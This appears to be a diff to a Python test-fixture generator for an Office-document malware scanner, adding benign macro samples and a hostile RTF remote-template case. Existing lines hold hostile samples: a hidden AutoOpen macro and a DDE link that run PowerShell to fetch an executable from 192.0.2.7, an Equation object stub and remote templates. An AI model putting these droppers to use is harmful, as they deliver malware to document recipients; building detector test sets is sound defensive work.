@@ -23,6 +23,12 @@ FORMATS = ("Sub Auto_Open()\r\n  Dim r As Range\r\n  Application.ScreenUpdating 
 READS_SHARE = ("Private Sub Workbook_Open()\r\n  Dim f As Object\r\n  Set f = CreateObject(\"Scripting.FileSystemObject\")\r\n"
                "  If f.FileExists(\"\\\\fs01\\preise\\liste.csv\") Then "
                "Workbooks.Open \"\\\\fs01\\preise\\liste.csv\"\r\nEnd Sub\r\n")
+READS_DATABASE = ("Private Sub Workbook_Open()\r\n  Dim c As Object, r As Object\r\n  Set c = CreateObject(\"ADODB.Connection\")\r\n"
+                  "  c.Open \"Provider=SQLOLEDB;Data Source=sql01;Initial Catalog=erp;Integrated Security=SSPI\"\r\n"
+                  "  Set r = c.Execute(\"SELECT artikel, menge FROM lager\")\r\n  Sheets(1).Range(\"A2\").CopyFromRecordset r\r\n"
+                  "  c.Close\r\nEnd Sub\r\n")
+MAILS_BY_BUTTON = ("Sub Senden_Klick()\r\n  Dim o As Object\r\n  Set o = CreateObject(\"Outlook.Application\").CreateItem(0)\r\n"
+                   "  o.To = \"einkauf@litware.example\"\r\n  o.Attachments.Add ActiveWorkbook.FullName\r\n  o.Display\r\nEnd Sub\r\n")
 BUTTON = "Sub Drucken_Klick()\r\n  ActiveSheet.PrintOut Copies:=2\r\nEnd Sub\r\n"
 SHELLS = ("Sub AutoOpen()\r\n  Shell \"powershell -w hidden -c iwr http://192.0.2.7/a -outf $env:temp\\a.exe\", vbHide\r\n"
           "End Sub\r\n")
@@ -218,6 +224,9 @@ def good(office):
         "market_data.xlsx": dde_linked(book(), "BLP", "M"),
         "macro_formats.xlsm": with_macro(book(), FORMATS, "xl", SHEET_MAIN, "Modul1"),
         "macro_reads_share.xlsm": with_macro(book(), READS_SHARE, "xl", SHEET_MAIN, "ThisWorkbook"),
+        "macro_reads_database.xlsm": with_macro(book(), READS_DATABASE, "xl", SHEET_MAIN, "ThisWorkbook"),
+        "macro_mails_by_button.xlsm": with_macro(book(), MAILS_BY_BUTTON, "xl", SHEET_MAIN, "Modul1"),
+        "template_on_share.rtf": b"{\\rtf1{\\*\\template \\\\\\\\fs01\\\\vorlagen\\\\brief.dotx}Sehr geehrte Damen und Herren}",
         "macro_button.docm": with_macro(letter(), BUTTON, "word", WORD_MAIN, "Modul1"),
     }
 
@@ -234,6 +243,7 @@ def hostile():
             letter(), f"<w:attachedTemplate xmlns:r=\"{RELATIONS}\" r:id=\"rIdX\"/>", "attachedTemplate",
             "https://stranger.sharepoint.com/:w:/g/EbQx1f?download=1"),
         "dde.xlsx": dde_linked(book(), "cmd", "/c powershell -c iwr http://192.0.2.7/a"),
+        "template_from_web.rtf": b"{\\rtf1{\\*\\template http://templates.stranger.example/a.dotm}x}",
         "equation.rtf": b"{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000"
                         b"0b0000004571756174696f6e2e330000000000000000000400000041414141}}}",
         "macro_zipped.zip": zipped({"invoice.docm": with_macro(letter(), SHELLS, "word", WORD_MAIN, "ThisDocument")}),
